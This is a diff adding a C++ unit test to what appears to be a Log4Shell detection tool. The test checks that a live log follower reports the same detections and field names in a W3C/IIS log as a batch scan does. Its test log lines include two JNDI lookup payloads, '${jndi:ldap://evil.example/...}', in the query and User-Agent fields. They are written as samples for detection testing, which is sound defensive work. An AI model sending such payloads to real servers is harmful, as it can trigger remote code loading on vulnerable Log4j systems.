@@ -343,6 +343,42 @@ TEST_F(FollowerTest, CopyTruncateThenRenameAndCompressInEveryOrder) {
   EXPECT_TRUE(failures.empty()) << all;
 }
 
+// A W3C/IIS log: the header is written (in two goes) before any data, and
+// the follower starts at the end of the file. Each detection is the very
+// line batch hunt writes for the same file: same columns, same fields.
+TEST_F(FollowerTest, W3cHeaderWrittenFirstGivesTheFieldsBatchHuntGives) {
+  const std::string path = log("u_ex211210.log");
+  append(path, "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n");
+  start(options({path}));
+  follower_->sync();
+  append(path, "#Date: 2021-12-10 11:34:56\n"
+               "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
+               "cs(User-Agent) cs(X-Forwarded-For) sc-status\n");
+  follower_->sync();
+  append(path, "2021-12-10 11:34:56 10.0.0.1 GET /index.html q=${jndi:ldap://evil.example/w1} 443 - 203.0.113.9 "
+               "Mozilla/5.0 198.51.100.7 200\n");
+  follower_->sync();
+  append(path, "2021-12-10 11:35:02 10.0.0.1 GET /login - 443 - 203.0.113.10 "
+               "${jndi:ldap://evil.example/w2} - 404\n");
+  follower_->sync();
+  ASSERT_EQ(tags(), (Tags{"w1", "w2"}));
+
+  hunt::FileHunt batch = hunt::hunt_path(path);
+  ASSERT_TRUE(batch.status.ok());
+  std::string want;
+  for (const hunt::Detection& d : batch.detections) want += format_follow_jsonl(d, Provenance{"testhost", ""});
+  std::ifstream in(out_path_);
+  std::stringstream got;
+  got << in.rdbuf();
+  EXPECT_EQ(got.str(), want);
+  // The columns were known: not a line taken as plain text.
+  std::vector<nlohmann::json> d = detections();
+  EXPECT_EQ(d[0]["field"], "cs-uri-query");
+  EXPECT_EQ(d[1]["field"], "cs(User-Agent)");
+  EXPECT_EQ(d[1]["source_ip"], "203.0.113.10");
+  EXPECT_EQ(d[0]["forwarded_for"], "198.51.100.7");
+}
+
 TEST_F(FollowerTest, AFileThatOnlyStartsLikeAnotherIsItsOwnLog) {
   append(log("a.log"), "=== banner ===\n");
   start(options({(dir_ / "logs").string()}));
